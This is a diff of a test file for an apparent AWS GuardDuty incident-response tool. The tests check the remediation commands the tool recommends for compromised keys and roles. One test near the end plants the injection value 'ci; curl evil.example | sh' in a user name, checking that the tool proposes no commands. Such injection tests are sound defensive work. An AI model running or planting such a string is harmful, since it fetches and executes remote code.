@@ -11,8 +11,9 @@ import {
   roleRevokeCommand,
   type ActivityEvent,
   type InvestigationFinding,
-} from '../../../src/core/investigation.js';
-import { normalizeFinding } from '../../../src/core/finding.js';
+} from '../../../src/core/investigation/index.js';
+import { normalizeFinding } from '../../../src/core/finding/index.js';
+import { commandLines } from '../../../src/core/suggestion.js';
 import { NOW, rawFinding, trailFor, workshopReport } from './fixture.js';
 
 const base: InvestigationFinding = {
@@ -121,13 +122,13 @@ describe('blast radius and recommendation', () => {
     expect(br.automationCaveats[0]).toContain(F.corporateIp);
     const rec = r.investigation.recommendation;
     expect(rec.action).toBe('deactivate-key');
-    expect(rec.commands).toEqual([`gd-ir remediate --key ${F.compromised.accessKeyId} --user ${F.compromised.userName} --revoke-sessions`]);
-    expect(rec.watch).toEqual([`gd-ir trail --key ${F.compromised.accessKeyId} --since 1h`, `gd-ir trail --key ${F.compromised.derivedSessionKeyId} --since 1h`]);
+    expect(commandLines(rec.commands)).toEqual([`gd-ir remediate --key ${F.compromised.accessKeyId} --user ${F.compromised.userName} --revoke-sessions`]);
+    expect(commandLines(rec.watch)).toEqual([`gd-ir trail --key ${F.compromised.accessKeyId} --since 1h`, `gd-ir trail --key ${F.compromised.derivedSessionKeyId} --since 1h`]);
   });
 
   it('IAM user without a readable trail: no --revoke-sessions claimed, and the gap is said', async () => {
     const r = await workshopReport(F.findings.unauthorizedAccessCustom, { trail: false, warnings: [{ section: 'activity', message: 'CloudTrail could not be read' }] });
-    expect(r.investigation.recommendation.commands).toEqual([`gd-ir remediate --key ${F.compromised.accessKeyId} --user ${F.compromised.userName}`]);
+    expect(commandLines(r.investigation.recommendation.commands)).toEqual([`gd-ir remediate --key ${F.compromised.accessKeyId} --user ${F.compromised.userName}`]);
     expect(r.investigation.recommendation.rationale.join(' ')).toContain('consider --revoke-sessions anyway');
     expect(r.investigation.activity).toBeUndefined();
   });
@@ -135,16 +136,16 @@ describe('blast radius and recommendation', () => {
   it('a temporary key of a user (the Kali finding): revoke the user\'s sessions, never "deactivate" an ASIA key', async () => {
     const r = await workshopReport(F.findings.hostileKali);
     expect(r.investigation.recommendation.action).toBe('revoke-user-sessions');
-    expect(r.investigation.recommendation.commands).toEqual([`gd-ir remediate --key ${F.compromised.derivedSessionKeyId} --user ${F.compromised.userName} --revoke-sessions`]);
+    expect(commandLines(r.investigation.recommendation.commands)).toEqual([`gd-ir remediate --key ${F.compromised.derivedSessionKeyId} --user ${F.compromised.userName} --revoke-sessions`]);
   });
 
   it('assumed role: revoke the role\'s sessions with the console\'s policy; no gd-ir remediate', async () => {
     const r = await workshopReport(F.findings.credentialExfiltration);
     const rec = r.investigation.recommendation;
     expect(rec.action).toBe('revoke-role-sessions');
-    expect(rec.commands).toEqual([roleRevokeCommand(F.role.roleName, NOW)]);
-    expect(rec.commands[0]).toContain(`"aws:TokenIssueTime":"${NOW.toISOString()}"`);
-    expect(rec.commands.join(' ')).not.toContain('gd-ir remediate');
+    expect(commandLines(rec.commands)).toEqual([roleRevokeCommand(F.role.roleName, NOW)]);
+    expect(commandLines(rec.commands)[0]).toContain(`"aws:TokenIssueTime":"${NOW.toISOString()}"`);
+    expect(commandLines(rec.commands).join(' ')).not.toContain('gd-ir remediate');
     expect(rec.manualSteps.join(' ')).toContain(F.role.instanceId);
     expect(r.permissionsResult?.principal.type).toBe('role');
   });
@@ -161,7 +162,7 @@ describe('blast radius and recommendation', () => {
     });
     const rec = inv.recommendation;
     expect(rec.action).toBe('deactivate-key');
-    expect(rec.commands).toEqual([`gd-ir remediate --key ${base.principal?.accessKeyId} --user u`, roleRevokeCommand('Deployer', NOW)]);
+    expect(commandLines(rec.commands)).toEqual([`gd-ir remediate --key ${base.principal?.accessKeyId} --user u`, roleRevokeCommand('Deployer', NOW)]);
     expect(rec.summary).toBe(`Deactivate ${base.principal?.accessKeyId} of u, revoke the sessions of the roles it assumed (Deployer, CrossAcct).`);
     expect(rec.rationale.join('\n')).toContain('It assumed role Deployer (ASIAAAAAAAAAAAAAAAA1): a role session answers to the role\'s policies, not u\'s');
     expect(rec.manualSteps[0]).toBe('In account 999988887777: revoke the active sessions of role CrossAcct (IAM console → Roles → CrossAcct → Revoke sessions).');
@@ -170,7 +171,7 @@ describe('blast radius and recommendation', () => {
       finding: base, warnings: [], now: NOW, events: [],
       derivedCredentials: [assumed(base.accountId, 'Deployer', 'ASIAAAAAAAAAAAAAAAA1'), { accessKeyId: 'ASIAAAAAAAAAAAAAAAA3', via: 'GetSessionToken', issuedAt: '2026-11-27T10:00:00Z' }],
     });
-    expect(both.recommendation.commands).toEqual([`gd-ir remediate --key ${base.principal?.accessKeyId} --user u --revoke-sessions`, roleRevokeCommand('Deployer', NOW)]);
+    expect(commandLines(both.recommendation.commands)).toEqual([`gd-ir remediate --key ${base.principal?.accessKeyId} --user u --revoke-sessions`, roleRevokeCommand('Deployer', NOW)]);
   });
 
   it('an IAM Identity Center role: no put-role-policy (IAM refuses to edit AWSReservedSSO_ roles); revoke in Identity Center', () => {
@@ -180,7 +181,7 @@ describe('blast radius and recommendation', () => {
       warnings: [], now: NOW, events: [],
     });
     expect(inv.recommendation.action).toBe('revoke-role-sessions');
-    expect(inv.recommendation.commands).toEqual([]);
+    expect(commandLines(inv.recommendation.commands)).toEqual([]);
     expect(inv.recommendation.manualSteps[0]).toMatch(/^In IAM Identity Center: revoke the user's active permission-set sessions/);
     expect(inv.recommendation.rationale[0]).toContain('IAM does not let anyone edit it');
   });
@@ -203,6 +204,6 @@ describe('blast radius and recommendation', () => {
     raw.resource.accessKeyDetails.userName = 'ci; curl evil.example | sh';
     const r = buildInvestigationReport({ finding: normalizeFinding(raw), warnings: [], now: NOW });
     expect(r.investigation.recommendation.action).toBe('none');
-    expect(r.investigation.recommendation.commands).toEqual([]);
+    expect(commandLines(r.investigation.recommendation.commands)).toEqual([]);
   });
 });
